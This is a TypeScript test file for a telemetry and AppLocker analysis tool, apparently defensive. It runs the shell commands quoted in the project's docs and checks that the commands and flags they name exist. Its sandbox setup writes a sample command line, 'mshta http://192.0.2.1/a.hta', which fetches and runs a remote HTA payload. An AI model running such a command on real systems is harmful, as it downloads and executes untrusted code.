import { spawnSync } from "node:child_process";
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { applocker } from "./policies/samples/applocker.ts";
import { whatran } from "./support/io.ts";

const ROOT = join(import.meta.dirname, "..");
const PAGES = [
  ...["README.md", "CONTRIBUTING.md", "examples/telemetry/README.md"],
  ...readdirSync(join(ROOT, "docs"))
    .filter((name) => name.endsWith(".md"))
    .map((name) => `docs/${name}`),
];
const read = (page: string) => readFileSync(join(ROOT, page), "utf8");

/** Lines of a page's blocks of code that are typed into a shell, without their comments; one of several that are joined stands alone. */
function linesOf(page: string): readonly string[] {
  const blocks = [...read(page).matchAll(/^```sh\n(.*?)^```$/gms)].map((match) => match[1] ?? "");
  const indented = [...read(page).matchAll(/^ {4}(\S.*)$/gm)].map((match) => match[1] ?? "");
  return [...blocks, ...indented]
    .flatMap((block) => block.split("\n"))
    .flatMap((line) => line.replace(/\s+#\s.*$/, "").split(" && "))
    .map((line) => line.replace(/^(?:\$ )?(?:npx )?/, "").trim());
}

const shell = (page: string) => linesOf(page).filter((line) => line.startsWith("whatran "));

/** A place with what the pages take for granted: logs, labels, a policy, a list of lines, an entry of one's own, and the program. */
function place(): string {
  const path = mkdtempSync(join(tmpdir(), "whatran-pages-"));
  const examples = join(ROOT, "examples/telemetry");
  for (const name of ["logs", "last-month", "today"]) {
    mkdirSync(join(path, name));
    cpSync(join(examples, "background/WS-018.ndjson.gz"), join(path, name, "ws.ndjson.gz"));
    cpSync(join(examples, "attack/SRV-014.ndjson.gz"), join(path, name, "srv.ndjson.gz"));
  }
  symlinkSync(examples, join(path, "labelled"));
  symlinkSync(join(ROOT, "examples"), join(path, "examples"));
  for (const name of ["AppLocker.xml", "now.xml", "new.xml"]) writeFileSync(join(path, name), applocker.good[0] ?? "");
  writeFileSync(join(path, "command-lines.txt"), "mshta http://192.0.2.1/a.hta\n");
  mkdirSync(join(path, "mine/windows"), { recursive: true });
  cpSync(join(ROOT, "catalog/_template.yaml"), join(path, "mine/windows/tool.yaml"));
  mkdirSync(join(path, "bin"));
  const program = `#!/bin/sh\nexec "${process.execPath}" "${join(ROOT, "dist/cli.js")}" "$@"\n`;
  writeFileSync(join(path, "bin/whatran"), program, { mode: 0o755 });
  // What others make of the output is not looked at.
  writeFileSync(join(path, "bin/jq"), "#!/bin/sh\nexec cat >/dev/null\n", { mode: 0o755 });
  return path;
}

/** What a shell says of a line. One that has no end is stopped. */
function typed(line: string, cwd: string): { readonly status: number | null; readonly stderr: string } {
  const env = { PATH: `${join(cwd, "bin")}:${process.env.PATH}`, HOME: cwd };
  const endless = line.includes("--follow");
  // In place of the shell, so that it is the program itself which is stopped.
  const { status, stderr, signal } = spawnSync("sh", ["-c", endless ? `exec ${line}` : line], {
    cwd,
    env,
    encoding: "utf8",
    maxBuffer: 1 << 28,
    timeout: endless ? 2000 : 60_000,
  });
  return { status: endless && (signal !== null || status === 130) ? 0 : status, stderr };
}

describe("what the pages say to type", () => {
  const typing = PAGES.filter((page) => shell(page).length > 0);

  it("is found", () => {
    expect(typing.flatMap(shell).length).toBeGreaterThan(20);
  });

  it.each(typing)(
    "works as %s has it",
    (page) => {
      const cwd = place();
      try {
        typed("whatran learn last-month --baseline fleet.baseline", cwd);
        for (const line of shell(page)) {
          const { status, stderr } = typed(line, cwd);
          expect(status, `${line}\n${stderr}`).toBe(0);
        }
      } finally {
        rmSync(cwd, { recursive: true, force: true });
      }
    },
    120_000,
  );
});

describe("commands and flags that are named", () => {
  const help = new Map<string, string>();
  const named = PAGES.flatMap((page) => [
    ...shell(page),
    ...[...read(page).matchAll(/`(?:npx )?(whatran [a-z][^`\n]*)`/g)].map((match) => match[1] ?? ""),
  ]);

  beforeAll(async () => {
    for (const name of new Set(named.map((line) => line.split(" ")[1] ?? "")))
      help.set(name, (await whatran(["help", name])).out);
  });

  it("are there", () => {
    const unknown = named.filter((line) => {
      const [, name = "", ...rest] = line.replace(/[|<>].*/, "").split(" ");
      const text = help.get(name) ?? "";
      const flags = rest.filter((word) => /^--?[a-zA-Z]/.test(word)).map((word) => word.replace(/[=,].*/, ""));
      return text === "" || flags.some((flag) => !new RegExp(`(?:^|[\\s,])${flag}(?=[\\s,])`, "m").test(text));
    });
    expect(unknown).toEqual([]);
  });

  it("are there among npm's scripts", () => {
    const { scripts } = JSON.parse(read("package.json")) as { readonly scripts: Record<string, string> };
    const sources = ["scripts", "lab", "bench"]
      .flatMap((name) =>
        readdirSync(join(ROOT, name), { recursive: true, encoding: "utf8" }).map((file) => join(name, file)),
      )
      .filter((file) => file.endsWith(".ts"))
      .map(read)
      .join("\n");
    const runs = PAGES.flatMap((page) => [...read(page).matchAll(/npm run (?:-s )?([\w:-]+)((?: -- [^`\n#]*)?)/g)]);
    expect(runs.length).toBeGreaterThan(20);
    const unknown = runs.filter(([, name = "", rest = ""]) => {
      const flags = rest.match(/(?<= )--[a-z][\w-]*/g) ?? [];
      return scripts[name] === undefined || flags.some((flag) => !sources.includes(flag.slice(2)));
    });
    expect(unknown.map(([text]) => text)).toEqual([]);
  });
});
